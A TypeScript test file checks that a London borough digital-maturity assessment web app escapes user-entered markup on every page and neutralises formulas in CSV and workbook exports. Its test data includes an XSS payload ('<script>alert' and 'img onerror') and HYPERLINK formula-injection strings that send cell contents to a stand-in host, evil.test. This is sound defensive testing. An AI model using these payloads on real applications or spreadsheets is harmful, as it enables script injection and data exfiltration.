/**
 * Every free-text field, filled with markup through the forms and the API people use, is shown escaped on
 * every page that shows it, never as markup on any page the route table serves, and neutralised and quoted
 * in every CSV and workbook export.
 */
import { parse } from 'csv-parse/sync'
import { Workbook } from 'exceljs'
import type { Response } from 'supertest'
import { moderationSections } from '../../src/domain/assessment/moderation'
import { moderationFieldId } from '../../src/routes/moderation/moderation-page'
import { FORMULA_TRIGGERS, runsAsFormula } from '../../src/domain/spreadsheet-safe'
import { entryForm } from '../support/pipeline'
import { catalogueProduct, estateForm } from '../support/estate'
import { fillAssessment } from '../support/results'
import { assessmentOf } from '../support/rounds'
import { allRoutes, allows, describeRoute } from '../support/routes'
import { escapeHtml } from './support/hostile'
import { definitionSaying } from './support/inputs'
import { fillPath } from './support/parameters'
import { buildWorld, CALLERS, OTHER, OWN, sessionFor, type Caller, type Session, type World } from './support/world'

/** Markup that runs if a page ever prints it as given, tagged with the field it was typed into. */
const attack = (field: string) => `<script>alert('${field}')</script><img src=x onerror=alert(1)>"'& ${field}`
const RAW = ['<script>alert(', '<img src=x onerror']

const FIELDS = {
  respondentName: attack('respondent'),
  assessorName: attack('assessor'),
  roundName: attack('round'),
  evidence: attack('evidence'),
  textAnswer: attack('text answer'),
  rationale: attack('rationale'),
  returnComment: attack('return comment'),
  moderationComment: attack('moderation comment'),
  partnershipName: attack('partnership'),
  partnershipDescription: attack('partnership description'),
  currentSystem: attack('current system'),
  // Starts as a formula would: pages escape it, spreadsheets must not run it.
  supplier: `@SUM(1+1)${attack('supplier')}`,
  notes: attack('notes'),
  tokenName: attack('token'),
  questionnaire: attack('questionnaire'),
  productName: attack('product'),
  estateNotes: attack('estate notes'),
  productSupplier: attack('product supplier'),
}
type Field = keyof typeof FIELDS

/** Evidence that a spreadsheet would run as a formula, one per trigger character, each on its own question. */
const FORMULAS = FORMULA_TRIGGERS.map(trigger => `${trigger}HYPERLINK("http://evil.test/?x="&A1,"<b>, click</b>")`)
const FORMULA_QUESTIONS = [
  'data.governance.data-ownership',
  'data.governance.data-protection',
  'data.governance.information-sharing',
  'data.quality.quality-standards',
  'data.quality.quality-monitoring',
  'data.infrastructure.data-platform',
]
const OWN_QUESTION = 'leadership.strategy.digital-strategy'
const OWN_THEME = 'leadership.strategy'
const OWN_FIELD = moderationFieldId(OWN_QUESTION)
const TEXT_QUESTION = 'foundations.context.anything-else'

let world: World
const sessions = new Map<Caller, Promise<Session>>()
const session = (caller: Caller) => {
  if (!sessions.has(caller)) sessions.set(caller, sessionFor(world, caller))
  return sessions.get(caller)!
}
let xss: {
  round: number
  assessment: number
  entry: number
  estateEntry: number
  partnership: number
  token: number
  product: number
  theme: string
}
/** Pages captured while the assessment was with the borough, before it moved on. */
const returned: Record<string, string> = {}
let tokenCreatedPage = ''

const form = (s: Session, path: string, body: Record<string, unknown>) =>
  s.agent.post(path).set('X-CSRF-Token', s.csrf).type('form').send(body)
const api = (s: Session, method: 'post' | 'put', path: string, body: Record<string, unknown> = {}) =>
  s.agent[method](path).set('X-CSRF-Token', s.csrf).send(body)
const expectStatus = async (call: Promise<Response>, status: number) => {
  const response = await call
  expect([response.status, response.text.slice(0, 300)]).toEqual([status, response.text.slice(0, 300)])
  return response
}

beforeAll(async () => {
  world = await buildWorld()
  const { t, users } = world
  const admin = await session('admin')
  // People's names, changed by an admin through the form.
  for (const [user, name] of [
    [users.respondent, FIELDS.respondentName],
    [users.assessor, FIELDS.assessorName],
  ] as const) {
    await expectStatus(
      form(admin, `/admin/users/${user.id}`, {
        email: user.email,
        name,
        role: user.role,
        organisation: user.role === 'respondent' ? OWN : '',
      }),
      302,
    )
  }
  // A round named by an admin, taken part in by both organisations.
  const created = await expectStatus(
    form(admin, '/admin/rounds/new', {
      name: FIELDS.roundName,
      questionnaire: 'london-digital-maturity@2',
      'opensOn-day': '1',
      'opensOn-month': '11',
      'opensOn-year': '2026',
      'closesOn-day': '31',
      'closesOn-month': '1',
      'closesOn-year': '2027',
      organisations: [OWN, OTHER],
    }),
    302,
  )
  const round = Number(/\/admin\/rounds\/(\d+)/.exec(created.headers.location ?? '')?.[1])
  const assessment = await assessmentOf(t, round, OWN)
  await fillAssessment(t, assessment, () => 3, { state: 'in_progress', evidence: FIELDS.evidence })

  // The borough's own words, through the API its pages' scripts use.
  const respondent = await session('respondent')
  await expectStatus(
    api(respondent, 'put', `/api/v1/assessments/${assessment}/answers/${TEXT_QUESTION}`, {
      value: FIELDS.textAnswer,
      revision: 1,
    }),
    200,
  )
  for (const [i, key] of FORMULA_QUESTIONS.entries()) {
    await expectStatus(
      api(respondent, 'put', `/api/v1/assessments/${assessment}/answers/${key}`, {
        level: 3,
        evidence: FORMULAS[i],
        revision: 1,
      }),
      200,
    )
  }
  await expectStatus(api(respondent, 'post', `/api/v1/assessments/${assessment}/submit`), 200)

  // An assessor moderates with a rationale, and returns it with a comment.
  const assessor = await session('assessor')
  await expectStatus(form(assessor, `/moderation/${assessment}/open`, {}), 302)
  await expectStatus(
    form(assessor, `/moderation/${assessment}/sections/${OWN_THEME}`, {
      [OWN_FIELD]: '2',
      [`${OWN_FIELD}-rationale`]: FIELDS.rationale,
      [`${OWN_FIELD}-revision`]: '0',
    }),
    302,
  )
  await expectStatus(form(assessor, `/moderation/${assessment}/return`, { comment: FIELDS.returnComment }), 302)
  returned.task = (await respondent.agent.get(`/assessments/${assessment}`).expect(200)).text
  returned.moderation = (await assessor.agent.get(`/moderation/${assessment}`).expect(200)).text
  // The borough hands it in again; the assessor completes it with a comment of their own.
  await expectStatus(api(respondent, 'post', `/api/v1/assessments/${assessment}/submit`), 200)
  await expectStatus(form(assessor, `/moderation/${assessment}/open`, {}), 302)
  // Completing needs every scored question moderated: the rest agree with the borough, written in one go.
  const definition = (await t.services.questionnaires.get('london-digital-maturity', 2)).definition
  await t.repos.moderations.insertMany(
    moderationSections(definition, new Map(), new Set([OWN_QUESTION])).flatMap(s =>
      s.unmoderated.map(q => ({
        assessmentId: assessment,
        questionKey: q.key,
        level: 3,
        rationale: null,
        assessorId: users.assessor.id,
        revision: 1,
        at: new Date(),
      })),
    ),
  )
  await expectStatus(form(assessor, `/moderation/${assessment}/complete`, { comment: FIELDS.moderationComment }), 302)

  // A partnership, a pipeline entry other boroughs may see, and a token.
  await expectStatus(
    form(admin, '/admin/partnerships/new', {
      name: FIELDS.partnershipName,
      description: FIELDS.partnershipDescription,
      members: [OWN, OTHER],
    }),
    302,
  )
  const partnership = (await t.services.partnerships.list()).find(p => p.name === FIELDS.partnershipName)?.id ?? 0
  await expectStatus(
    form(
      respondent,
      '/pipeline/entries/new',
      entryForm({
        currentSystem: FIELDS.currentSystem,
        supplier: FIELDS.supplier,
        notes: FIELDS.notes,
        shareable: 'yes',
      }),
    ),
    302,
  )
  const entry = Math.max(...(await t.repos.pipeline.list({})).map(e => e.id))
  // A system the borough runs, of a product whose name is markup, with notes that are too.
  const estateProduct = await catalogueProduct(t, { name: FIELDS.productName })
  await expectStatus(
    form(respondent, '/estate/entries/new', estateForm(estateProduct, { notes: FIELDS.estateNotes })),
    302,
  )
  const estateEntry = Math.max(...(await t.repos.estate.list({})).map(e => e.id))
  // A product a respondent proposes to London's catalogue, so it awaits approval and shows in both lists.
  await expectStatus(
    form(respondent, '/estate/products/new', {
      name: FIELDS.productName,
      supplier: FIELDS.productSupplier,
      category: 'finance-erp',
    }),
    302,
  )
  const product =
    (await t.repos.catalogue.listProducts()).find(
      p => p.name === FIELDS.productName && p.supplier.name === FIELDS.productSupplier,
    )?.id ?? 0
  const made = await expectStatus(
    form(respondent, '/account/tokens', { name: FIELDS.tokenName, expiresInDays: '30' }),
    200,
  )
  tokenCreatedPage = made.text
  const token = (await t.services.tokens.list(users.respondent)).find(k => k.name === FIELDS.tokenName)?.id ?? 0

  // A questionnaire an admin uploads with markup in its title, prompts and option values, and a round on it.
  await expectStatus(
    form(admin, '/admin/questionnaires', {
      definition: JSON.stringify(definitionSaying('xss-maturity', FIELDS.questionnaire)),
    }),
    302,
  )
  await expectStatus(form(admin, '/admin/questionnaires/xss-maturity/versions/1/publish', {}), 302)
  const xssRound = await t.services.rounds.create(
    {
      name: 'Uploaded questionnaire round',
      questionnaire: { key: 'xss-maturity', version: 1 },
      opensOn: '2026-11-01',
      closesOn: '2027-01-31',
      organisations: [OWN],
    },
    users.admin.id,
  )
  xss = {
    round,
    assessment,
    entry,
    estateEntry,
    partnership,
    token,
    product,
    theme: `/assessments/${await assessmentOf(t, xssRound, OWN)}/themes/data.quality`,
  }
  // From here on, every path the route table takes is filled with these.
  Object.assign(world, {
    round,
    assessments: { own: assessment, other: await assessmentOf(t, round, OTHER) },
    pipelineEntries: { ...world.pipelineEntries, own: entry },
    estateEntries: { ...world.estateEntries, own: estateEntry },
    partnership,
    draft: { key: 'xss-maturity', version: 1 },
    tokens: { ...world.tokens, respondent: token },
    product,
  })
})
afterAll(() => world.t.close())

/** Where each field must show, escaped: as who, at which address (or a page captured on the way). */
const SHOWN: [Field, Caller, (x: typeof xss) => string][] = [
  ['respondentName', 'admin', () => '/admin/users'],
  ['respondentName', 'admin', () => `/admin/users/${world.users.respondent.id}`],
  ['respondentName', 'respondent', () => '/'],
  ['respondentName', 'respondent', x => `/assessments/${x.assessment}/history`],
  ['assessorName', 'admin', () => '/admin/users'],
  ['assessorName', 'assessor', () => '/account'],
  ['assessorName', 'analyst', x => `/rounds/${x.round}/calibration`],
  ['roundName', 'admin', () => '/admin/rounds'],
  ['roundName', 'admin', x => `/admin/rounds/${x.round}`],
  ['roundName', 'respondent', () => '/'],
  ['roundName', 'respondent', () => '/assessments'],
  ['roundName', 'respondent', x => `/assessments/${x.assessment}`],
  ['roundName', 'respondent', x => `/assessments/${x.assessment}/report`],
  ['roundName', 'assessor', () => '/moderation'],
  ['roundName', 'assessor', x => `/moderation/${x.assessment}`],
  ['roundName', 'analyst', x => `/rounds/${x.round}/heatmap`],
  ['roundName', 'analyst', x => `/rounds/${x.round}/calibration`],
  ['roundName', 'analyst', x => `/rounds/${x.round}/clusters`],
  ['roundName', 'analyst', x => `/rounds/${x.round}/map`],
  ['evidence', 'respondent', x => `/assessments/${x.assessment}/themes/leadership.strategy`],
  ['evidence', 'respondent', x => `/assessments/${x.assessment}/check`],
  ['evidence', 'assessor', x => `/moderation/${x.assessment}/sections/${OWN_THEME}`],
  ['textAnswer', 'respondent', x => `/assessments/${x.assessment}/themes/foundations.context`],
  ['textAnswer', 'respondent', x => `/assessments/${x.assessment}/check`],
  ['textAnswer', 'respondent', x => `/assessments/${x.assessment}/history`],
  ['rationale', 'assessor', x => `/moderation/${x.assessment}/sections/${OWN_THEME}`],
  ['rationale', 'respondent', x => `/assessments/${x.assessment}/report`],
  ['rationale', 'analyst', x => `/assessments/${x.assessment}/report`],
  ['moderationComment', 'assessor', x => `/moderation/${x.assessment}`],
  ['partnershipName', 'admin', () => '/admin/partnerships'],
  ['partnershipName', 'admin', x => `/admin/partnerships/${x.partnership}`],
  ['partnershipName', 'analyst', () => `/organisations/${OWN}`],
  ['partnershipDescription', 'admin', x => `/admin/partnerships/${x.partnership}`],
  ['productName', 'respondent', () => '/estate/products'],
  ['productName', 'analyst', () => '/estate/products'],
  ['productName', 'analyst', x => `/estate/products/${x.product}/edit`],
  ['productName', 'analyst', x => `/estate/products/${x.product}/merge`],
  ['productSupplier', 'respondent', () => '/estate/products'],
  ['productSupplier', 'analyst', x => `/estate/products/${x.product}/edit`],
  ['currentSystem', 'respondent', () => '/pipeline'],
  ['currentSystem', 'respondent', x => `/pipeline/entries/${x.entry}`],
  ['currentSystem', 'respondent', x => `/pipeline/entries/${x.entry}/delete`],
  ['currentSystem', 'analyst', x => `/pipeline/entries/${x.entry}`],
  ['currentSystem', 'analyst', () => '/pipeline/all'],
  ['currentSystem', 'analyst', () => `/pipeline/opportunities/finance-erp`],
  ['supplier', 'respondent', () => '/pipeline'],
  ['supplier', 'respondent', x => `/pipeline/entries/${x.entry}`],
  ['supplier', 'analyst', () => '/pipeline/all'],
  ['notes', 'respondent', x => `/pipeline/entries/${x.entry}`],
  ['notes', 'analyst', x => `/pipeline/entries/${x.entry}`],
  ['productName', 'respondent', () => '/estate'],
  ['productName', 'respondent', () => '/estate/entries/new'],
  ['productName', 'respondent', x => `/estate/entries/${x.estateEntry}`],
  ['productName', 'respondent', x => `/estate/entries/${x.estateEntry}/delete`],
  ['productName', 'analyst', () => `/estate/organisations/${OWN}`],
  ['estateNotes', 'respondent', x => `/estate/entries/${x.estateEntry}`],
  ['estateNotes', 'analyst', x => `/estate/entries/${x.estateEntry}`],
  ['tokenName', 'respondent', () => '/account'],
  ['questionnaire', 'admin', () => '/admin/questionnaires'],
  ['questionnaire', 'admin', () => '/admin/questionnaires/xss-maturity/versions/1'],
  ['questionnaire', 'admin', () => '/admin/questionnaires/xss-maturity/versions/1/preview'],
  ['questionnaire', 'admin', () => '/admin/rounds/new'],
  ['questionnaire', 'respondent', x => x.theme],
]

function expectEscaped(field: Field, where: string, html: string): void {
  expect([where, field, html.includes(escapeHtml(FIELDS[field]))]).toEqual([where, field, true])
  for (const raw of RAW) expect([where, raw, html.includes(raw)]).toEqual([where, raw, false])
}

describe('each free-text field is shown escaped wherever it is shown', () => {
  it.each(SHOWN.map(([field, caller, path]) => ({ field, caller, path, name: `${field} as ${caller}` })))(
    '$name',
    async ({ field, caller, path }) => {
      const s = await session(caller)
      const response = await s.agent.get(path(xss))
      // The clusters page answers 400 when too few organisations are scored, and still names the round.
      expect(response.status).toBeLessThan(500)
      expectEscaped(field, path(xss), response.text)
    },
  )

  it('the return comment, on the borough’s task list and the moderation page while it is returned', () => {
    expectEscaped('returnComment', 'task list', returned.task ?? '')
    expectEscaped('returnComment', 'moderation page', returned.moderation ?? '')
  })

  it('the token name, on the page that shows the new token once', () => {
    expectEscaped('tokenName', 'token created', tokenCreatedPage)
  })
})

describe('no page the route table serves ever prints the markup', () => {
  const pages = allRoutes().flatMap(route =>
    route.method !== 'get'
      ? []
      : CALLERS.filter(caller => (caller === 'signed-out' ? route.access === 'public' : allows(route, caller))).map(
          caller => ({ route, caller, name: `${describeRoute(route)} as ${caller}` }),
        ),
  )

  it.each(pages)('$name', async ({ route, caller }) => {
    const { agent } = await session(caller)
    const response = await agent.get(fillPath(route, world, caller))
    expect(response.status).toBeLessThan(500)
    const type = String(response.headers['content-type'])
    const raw = RAW.some(r => response.text.includes(r))
    if (type.startsWith('text/html')) expect([type, raw]).toEqual([type, false])
    else if (raw) {
      // Data with the markup in it (JSON, CSV) is never something a browser would render as a page.
      expect(type).toMatch(/^(application\/json|text\/csv)/)
      expect(response.headers['x-content-type-options']).toBe('nosniff')
      if (type.startsWith('text/csv')) expect(response.headers['content-disposition']).toMatch(/^attachment/)
    }
  })
})

/** Text a spreadsheet would run: a formula, even behind spaces or invisible characters, and not a number. */
const runnable = (cell: string): boolean => runsAsFormula(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)

async function csvCells(caller: Caller, path: string): Promise<string[][]> {
  const s = await session(caller)
  const response = await s.agent.get(path).buffer(true).expect(200)
  expect(response.headers['content-type']).toMatch(/^text\/csv/)
  const rows: string[][] = parse(response.text, { bom: true, relax_column_count: true })
  return rows
}

describe('exports neutralise formulas and quote what they hold', () => {
  it.each(['analyst', 'respondent'] as const)('the round’s CSV, as %s', async caller => {
    const rows = await csvCells(caller, `/rounds/${xss.round}/export.csv`)
    const cells = rows.flat()
    // Quoting holds: every row has the header's columns, and each field comes back whole.
    for (const row of rows) expect(row.length).toBe(rows[0]!.length)
    expect(cells).toContain(FIELDS.evidence)
    expect(cells).toContain(FIELDS.textAnswer)
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`)
    expect(cells.filter(runnable)).toEqual([])
  })

  it.each(['analyst', 'respondent'] as const)('the round’s workbook, as %s', async caller => {
    const { agent } = await session(caller)
    const response = await agent
      .get(`/rounds/${xss.round}/export.xlsx`)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = []
        res.on('data', (c: Buffer) => chunks.push(c))
        res.on('end', () => done(null, Buffer.concat(chunks)))
      })
      .expect(200)
    const workbook = new Workbook()
    await workbook.xlsx.load(response.body as ArrayBuffer)
    const strings: string[] = []
    workbook.eachSheet(sheet =>
      sheet.eachRow(row =>
        row.eachCell(cell => {
          // No cell is a formula: everything typed in comes back as text.
          expect([cell.address, cell.formula]).toEqual([cell.address, undefined])
          if (typeof cell.value === 'string') strings.push(cell.value)
        }),
      ),
    )
    expect(strings).toContain(FIELDS.evidence)
    expect(strings).toContain(FIELDS.textAnswer)
    // A string cell is text, never run, so it holds what was typed with no quote in front (issue 14).
    // A carriage return is a line break inside a workbook cell.
    for (const formula of FORMULAS) expect(strings).toContain(formula.replace(/\r/g, '\n'))
  })

  it('the London pipeline CSV', async () => {
    const rows = await csvCells('analyst', '/pipeline/all.csv')
    const cells = rows.flat()
    for (const row of rows) expect(row.length).toBe(rows[0]!.length)
    expect(cells).toContain(FIELDS.currentSystem)
    expect(cells).toContain(FIELDS.notes)
    expect(cells).toContain(`'${FIELDS.supplier}`)
    expect(cells.filter(runnable)).toEqual([])
  })

  it('the heatmap CSV', async () => {
    const rows = await csvCells('analyst', `/rounds/${xss.round}/heatmap.csv`)
    expect(rows.length).toBeGreaterThan(1)
    expect(rows.flat().filter(runnable)).toEqual([])
  })
})
